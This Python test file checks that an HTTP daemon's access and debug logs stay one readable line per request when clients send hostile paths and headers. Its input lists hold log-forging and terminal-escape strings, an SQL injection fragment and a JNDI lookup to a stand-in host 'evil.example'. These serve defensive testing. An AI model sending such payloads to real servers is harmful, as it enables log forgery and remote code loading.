"""What clients write into logs: whatever they send, a line of a log is one event, can be read, and moves no terminal."""
import json
import re

import pytest

from conformance.hostile.payloads import ALL
from harness.daemon import Daemon
from harness.http import ConnectionCut, build, wait_until

# Texts that break out of a careless line, its quotes, or a terminal that shows it.
TARGETS = [b'/files/"quoted"', b"/files/back\\slash", b"/files/%0d%0aforged%20line", b"/files/%1b%5b2J", b"/files/\\x1b[2J", b"/files/\\u2028", b"/files/{\"a\":1}",
           b"/files/'; DROP TABLE", b"/files/${jndi:ldap://evil.example/a}", b"/files/%00", b"/files/" + b"x" * 8000, b"/files/?a=\"b\"", b"/files/[31m"]
VALUES = [b'"', b'\\', b'\\"', b"a\tb", b"\xff\xfe", b"\xe2\x80\xa8", b"caf\xc3\xa9", b"\xc3", b"\xed\xa0\x80", b"%0a", b'" 200 1 "-" "', b"\xc2\x9b31m", b"x" * 9000]
FIELDS = ["User-Agent", "Referer", "X-Forwarded-For", "Origin", "Accept"]


def good_requests():
    for target in TARGETS:
        yield build(b"GET", target.replace(b" ", b"%20"))
    for name in FIELDS:
        for value in VALUES:
            yield build("GET", "/files/ten.bin", [(name, value)])
    yield build("M!#$%&'*+-.^_`|~", "/files/ten.bin")


@pytest.fixture(scope="module", params=["json", "combined"], name="logged")
def make_logged(request, tmp_path_factory):
    """The lines of the access log and of the daemon's own after all of it, and how many answers there were."""
    base = tmp_path_factory.mktemp("log")
    (base / "served").mkdir()
    (base / "served" / "ten.bin").write_bytes(b"0123456789")
    log = base / "access.log"
    answers = 0
    with Daemon(base / "served", options=["--access-log", log, "--access-log-format", request.param, "--log-format", "json", "--log-level", "debug"]) as daemon:
        answers += 1  # its readiness was asked for
        for data in [*good_requests(), *(payload[1] for payload in ALL)]:
            with daemon.connect() as connection:
                try:
                    connection.send(data)
                    connection.finish_sending()
                except OSError:
                    pass  # refused by its first half
                method = data.split(b" ", 1)[0].decode("latin-1")
                try:
                    while True:
                        connection.read_response(method)
                        answers += 1
                except ConnectionCut:
                    pass
        wait_until(lambda: log.read_bytes().count(b"\n") >= answers, "all of it is written")
    return request.param, log.read_bytes(), daemon.log(), answers


def test_one_line_for_each_answer(logged):
    _, access, _, answers = logged
    assert answers >= len(ALL)
    assert access.endswith(b"\n")
    assert access.count(b"\n") == answers


def test_no_control_byte_reaches_the_access_log(logged):
    _, access, _, _ = logged
    for line in access[:-1].split(b"\n"):
        assert not re.search(rb"[\x00-\x1f\x7f]", line), line
        text = line.decode("utf-8", "strict")
        assert not re.search("[\x80-\x9f\u2028\u2029]", text), line  # C1 controls, and what some take for the end of a line


def test_every_line_can_be_read(logged):
    form, access, _, _ = logged
    for line in access.decode().splitlines():
        if form == "json":
            record = json.loads(line)
            assert {"time", "remote", "status", "bytes"} <= set(record)
            assert isinstance(record["status"], int) and record["remote"].startswith("127.0.0.1:")
            assert len(line) < 16384
        else:
            quoted = r'"(?:[^"\\]|\\.)*"'
            assert re.fullmatch(rf'127\.0\.0\.1(:\d+)? - \S+ \[[^\]]+\] {quoted} \d{{3}} (\d+|-) {quoted} {quoted}.*', line), line


def test_the_daemons_own_log_can_be_read(logged):
    _, _, own, _ = logged
    lines = own.split("\n")
    for line in lines:
        record = json.loads(line)
        assert {"time", "level", "message"} <= set(record)
        assert not re.search(r"[\x00-\x1f\x7f-\x9f]", line), line


def test_nothing_is_made_up(logged):
    """No line says more than what was sent: a forged one would carry this."""
    _, access, own, _ = logged
    assert b"forged line" not in access
    assert "forged line" not in own
